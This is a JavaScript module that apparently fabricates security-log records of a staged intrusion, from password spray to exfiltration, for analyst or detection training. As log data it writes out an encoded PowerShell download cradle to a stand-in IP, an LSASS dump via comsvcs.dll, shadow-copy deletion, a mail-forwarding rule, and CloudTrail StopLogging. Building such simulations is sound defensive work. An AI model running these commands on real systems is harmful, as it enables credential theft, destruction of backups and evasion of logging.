// The intrusion: 1 a password spray that finds one weak password; 2 footholds in mail and directory; 3 a jump host, credentials taken
// from memory, a service planted on the file server; 4 rights and doors opened in the cloud; 5 data carried out. Its minutes follow each
// other within the afternoon, so that an analyst can read it from start to end.
import { audit, call, flow, installed, logon, mail, operation, processStart, signIn } from './day.mjs';
import { at, intruder, machines, people, person, subscriptions } from './world.mjs';

export function intrusion(day, r) {
  const victim = person('financial.controller');
  const jump = machines.find(m => m.name === 'kh-jump-01');
  const files = machines.find(m => m.name === 'kh-files-02');
  const production = `/subscriptions/${subscriptions.production.id}`;
  const agent = 'python-requests/2.31';

  // 1. 13:02-13:19: three passwords against every account, slowly enough not to lock one; then the one that fits.
  for (let round = 0; round < 3; round++) {
    people.forEach((p, i) => day.SigninLogs.push(signIn(r, at(782 + round * 5 + Math.floor(i / 4), (i * 13) % 60, 120), p, intruder, { result: '50126', description: 'Error validating credentials due to invalid username or password.', agent, mfa: false })));
  }
  day.SigninLogs.push(signIn(r, at(799, 41, 12), victim, intruder, { agent, mfa: false }));
  day.SigninLogs.push(signIn(r, at(803, 5, 430), victim, intruder, { app: 'Azure Portal', agent, mfa: false }));

  // 2. 13:26-13:48: mail about payments goes outside, and an application gets a secret of the intruder's.
  day.OfficeActivity.push(mail(r, at(806, 22), 'New-InboxRule', victim, intruder.address, {
    RecordType: 'ExchangeAdmin', OfficeObjectId: `${victim.upn}\\.`,
    Parameters: JSON.stringify([{ Name: 'Name', Value: '.' }, { Name: 'SubjectOrBodyContainsWords', Value: 'invoice;payment;wire' }, { Name: 'ForwardTo', Value: 'collector@dropbox.invalid' }, { Name: 'DeleteMessage', Value: 'True' }, { Name: 'StopProcessingRules', Value: 'True' }]),
  }));
  for (let i = 0; i < 46; i++) day.OfficeActivity.push(mail(r, at(808 + Math.floor(i / 6), (i * 7) % 60), 'MailItemsAccessed', victim, intruder.address, { ClientInfoString: 'Client=REST;Client=RESTSystem;;' }));
  day.AuditLogs.push(audit(r, at(827, 9), 'Add service principal credentials', victim, 'backup-sync', {
    category: 'ApplicationManagement', type: 'ServicePrincipal', address: intruder.address, targetId: 'c41f9b0e-52d7-4c1b-8a3e-6d7e8f90a1b2',
    modified: [{ displayName: 'KeyDescription', oldValue: '[]', newValue: `["[KeyIdentifier=${r.guid()},KeyType=Password,KeyUsage=Verify,DisplayName=sync]"]` }],
  }));
  day.AuditLogs.push(audit(r, at(828, 30), 'Update application – Certificates and secrets management ', victim, 'backup-sync', {
    category: 'ApplicationManagement', type: 'Application', address: intruder.address, modified: [{ displayName: 'KeyDescription', oldValue: '[]', newValue: '["[KeyType=Password,KeyUsage=Verify,DisplayName=sync]"]' }],
  }));

  // 3. 14:05-14:41: remote desktop to the jump host, an encoded command, memory of LSASS, a service on the file server.
  const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
  day.SecurityEvent.push(logon(r, at(845, 18), jump.fqdn, victim.user, { type: 10, address: intruder.address, workstation: 'DESKTOP-0K2' }));
  day.SecurityEvent.push(processStart(r, at(848, 3), jump.fqdn, victim.user, 'C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\explorer.exe', 'cmd.exe'));
  for (const [i, line] of ['whoami /all', 'net group "Domain Admins" /domain', 'nltest /dclist:kestrelharbour', 'net view \\\\kh-files-02'].entries()) {
    day.SecurityEvent.push(processStart(r, at(849, 5 + i * 11), jump.fqdn, victim.user, `C:\\Windows\\System32\\${line.split(' ')[0]}.exe`, 'C:\\Windows\\System32\\cmd.exe', line));
  }
  const encoded = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/s')", 'utf16le').toString('base64');
  day.SecurityEvent.push(processStart(r, at(853, 44), jump.fqdn, victim.user, powershell, 'C:\\Windows\\System32\\cmd.exe', `powershell.exe -NoP -W Hidden -Enc ${encoded}`));
  day.CommonSecurityLog.push(flow(r, at(853, 46), jump.address, intruder.address, 80, { application: 'web-browsing', sent: 812, received: 214550, user: victim.user }));
  day.SecurityEvent.push(processStart(r, at(861, 12), jump.fqdn, victim.user, 'C:\\Windows\\System32\\rundll32.exe', powershell, 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\Users\\Public\\d.bin full'));
  const session = logon(r, at(872, 30), files.fqdn, 'it.operations', { type: 3, address: jump.address, workstation: 'KH-JUMP-01' });
  day.SecurityEvent.push(session);
  day.SecurityEvent.push({ ...installed(r, at(873, 2), files.fqdn, 'it.operations', 'khsync', '%SystemRoot%\\khsync.exe'), SubjectLogonId: session.TargetLogonId });
  day.SecurityEvent.push(processStart(r, at(873, 9), files.fqdn, `${files.name.toUpperCase()}$`, 'C:\\Windows\\khsync.exe', 'C:\\Windows\\System32\\services.exe', 'C:\\Windows\\khsync.exe'));
  day.SecurityEvent.push(processStart(r, at(881, 27), files.fqdn, 'it.operations', 'C:\\Windows\\System32\\vssadmin.exe', 'C:\\Windows\\khsync.exe', 'vssadmin.exe delete shadows /all /quiet'));

  // 4. 14:52-15:20: Owner for the application, account keys read, the jump host's door opened to all, a trail in AWS stopped.
  const backdoor = 'c41f9b0e-52d7-4c1b-8a3e-6d7e8f90a1b2';
  day.AzureActivity.push(operation(r, at(892, 14), 'MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE', victim.upn, `${production}/providers/Microsoft.Authorization/roleAssignments/${r.guid()}`, {
    address: intruder.address, properties: { requestbody: JSON.stringify({ Properties: { PrincipalId: backdoor, PrincipalType: 'ServicePrincipal', RoleDefinitionId: `${production}/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635`, Scope: production } }) },
  }));
  for (const [i, account] of ['khinvoices', 'khpayroll', 'khcontracts', 'khbackups', 'kherpexports'].entries()) {
    day.AzureActivity.push(operation(r, at(898 + i, 20), 'MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION', victim.upn, `${production}/resourceGroups/${account === 'kherpexports' ? 'rg-erp' : 'rg-data'}/providers/Microsoft.Storage/storageAccounts/${account}`, { address: intruder.address }));
  }
  day.AzureActivity.push(operation(r, at(905, 51), 'MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE', victim.upn, `${production}/resourceGroups/rg-network/providers/Microsoft.Network/networkSecurityGroups/nsg-jump/securityRules/any`, {
    address: intruder.address, properties: { responseBody: JSON.stringify({ properties: { access: 'Allow', direction: 'Inbound', sourceAddressPrefix: '*', destinationPortRange: '*', protocol: '*' } }) },
  }));
  day.AWSCloudTrail.push(call(r, at(913, 8), 'sts.amazonaws.com', 'GetCallerIdentity', 'legacy-sync', intruder.address));
  day.AWSCloudTrail.push(call(r, at(914, 40), 'iam.amazonaws.com', 'CreateAccessKey', 'legacy-sync', intruder.address, { request: { userName: 'ci-deployer' } }));
  day.AWSCloudTrail.push(call(r, at(916, 2), 'cloudtrail.amazonaws.com', 'StopLogging', 'legacy-sync', intruder.address, { request: { name: 'kh-organisation' } }));

  // 5. 15:31-16:28: from the file server to one address outside, far more than that machine ever sends.
  for (let i = 0; i < 38; i++) {
    day.CommonSecurityLog.push(flow(r, at(931 + Math.floor(i * 1.5), (i * 17) % 60), files.address, intruder.dropbox, 443, { sent: r.int(46_000_000, 92_000_000), received: r.int(20_000, 60_000) }));
  }
  for (let i = 0; i < 60; i++) day.AWSCloudTrail.push(call(r, at(935 + Math.floor(i / 4), (i * 13) % 60), 's3.amazonaws.com', 'GetObject', 'legacy-sync', intruder.address, { request: { bucketName: 'kh-invoices-archive', key: `2025/${String(i).padStart(4, '0')}.pdf` } }));
}
